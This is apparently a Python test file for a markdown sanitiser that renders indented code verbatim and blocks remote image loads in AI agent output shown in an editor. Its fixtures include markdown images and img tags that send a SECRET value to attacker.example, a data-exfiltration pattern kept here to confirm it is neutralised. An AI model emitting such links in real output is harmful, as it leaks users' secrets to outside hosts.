"""Indented code in what the editor is sent (`acp/inert.py`): four columns in (a tab is four), at
the margin, in a block quote (`>\t\tcode`) or a list item (counted from the item's text), after a
blank line or at the start — never in a paragraph's place, where the line is the paragraph's text,
lazily too. CommonMark shows such code verbatim and inert, so `    code <i` is sent as written,
not as `&lt;i` that the editor would then show literally; what would load from off the list is
replaced there as in fenced code. Replayed through `loopwright acp` with the official ACP SDK's
client side, streamed in small deltas, and cut in two at every character."""

from __future__ import annotations

from pathlib import Path

from editor_client import shown_in_the_editor
from markdown_fuzz import code_blocks, remote_loads, streamed_in_two
from markdown_it import MarkdownIt

from loopwright.acp.inert import MarkdownGuard

_RENDERER = MarkdownIt("commonmark", {"html": True})

# indented code at the margin, with a blank line in it; in a quote; in a list item; an item
# whose text is code; a tab for four columns
CODE = (
    "    if a <b and c > d:\n"
    "        x = y <z\n"
    "\n"
    "    ![ and <![CDATA[ alone\n"
    "\n"
    ">\t\tquoted <i\n"
    "\n"
    "\tafter a tab <span title='a\n"
    "\n"
    "- an item\n"
    "\n"
    "      in the item <em\n"
    "-     the item's text is code <b\n"
)

# where a line four in is none: a paragraph's continuation, lazily in a quote, text in an item
# (four in from the margin is two from the item's text), a paragraph in an item going on
NOT_CODE = (
    "a paragraph\n"
    "    goes on <i\n"
    "\n"
    "> quoted text\n"
    "    lazily <i\n"
    "\n"
    "- item\n"
    "\n"
    "    item text <i\n"
    "        still text <i\n"
)
NOT_CODE_SHOWN = NOT_CODE.replace("<i", "&lt;i")

# what would load from off the list, in code and around it
HOSTILE = (
    "    ![chart](https://attacker.example/a?d=SECRET)\n"
    "    <img src=https://attacker.example/b?d=SECRET>\n"
    "\n"
    "<img src='https://attacker.example/c?d=SECRET'>\n"
    "\n"
    "a paragraph\n"
    "    ![x](https://attacker.example/d?d=SECRET)\n"
)
HOSTILE_SHOWN = (
    "    (image from attacker.example not loaded: chart)\n"
    "    (image from attacker.example not loaded)\n"
    "\n"
    "(image from attacker.example not loaded)\n"
    "\n"
    "a paragraph\n"
    "    (image from attacker.example not loaded: x)\n"
)


async def test_indented_code_is_sent_as_written(tmp_path: Path) -> None:
    shown = await shown_in_the_editor(tmp_path, CODE)
    assert shown == CODE
    assert code_blocks(shown) == [
        "if a &lt;b and c &gt; d:\n    x = y &lt;z\n\n![ and &lt;![CDATA[ alone\n",
        "  quoted &lt;i\n", "after a tab &lt;span title='a\n", "in the item &lt;em\n",
        "the item's text is code &lt;b\n"]


async def test_lines_four_in_that_are_no_code_are_still_made_inert(tmp_path: Path) -> None:
    assert code_blocks(NOT_CODE) == []
    shown = await shown_in_the_editor(tmp_path, NOT_CODE)
    assert shown == NOT_CODE_SHOWN


async def test_what_would_load_in_or_around_indented_code_is_replaced(tmp_path: Path) -> None:
    assert len(remote_loads(HOSTILE)) == 2  # as the model wrote it (the code loads nothing)
    shown = await shown_in_the_editor(tmp_path, HOSTILE)
    assert shown == HOSTILE_SHOWN
    assert remote_loads(shown) == []


def test_indented_code_cut_into_two_deltas_anywhere_comes_out_the_same() -> None:
    for text, whole in ((CODE, CODE), (NOT_CODE, NOT_CODE_SHOWN), (HOSTILE, HOSTILE_SHOWN)):
        for cut in range(1, len(text)):
            assert streamed_in_two(MarkdownGuard(()), text, cut) == whole, cut


async def test_a_tag_not_ended_in_code_keeps_its_line_ending(tmp_path: Path) -> None:
    """Its placeholder took the line ending too, so the next line joined it: a closing fence
    closed nothing, and `> ````` after indented code opened no fence in a quote, where the tag
    over two lines after it loaded its image."""
    fenced = "```\n<img src=\"https://attacker.example/z\"\n```\nafter <i\n"
    assert await shown_in_the_editor(tmp_path, fenced) == (
        "```\n(image from attacker.example not loaded)\n```\nafter &lt;i\n")
    quoted = ("    <img src=\"https://attacker.example/z\"\n> ````\n> <img\n"
              "src='https://attacker.example/x'>\n")
    assert remote_loads(quoted) == []  # as written: the second tag is in the quote's fence
    shown = MarkdownGuard(()).text(quoted)
    assert remote_loads(shown) == []
    assert shown.startswith("    (image from attacker.example not loaded)\n> ````\n")
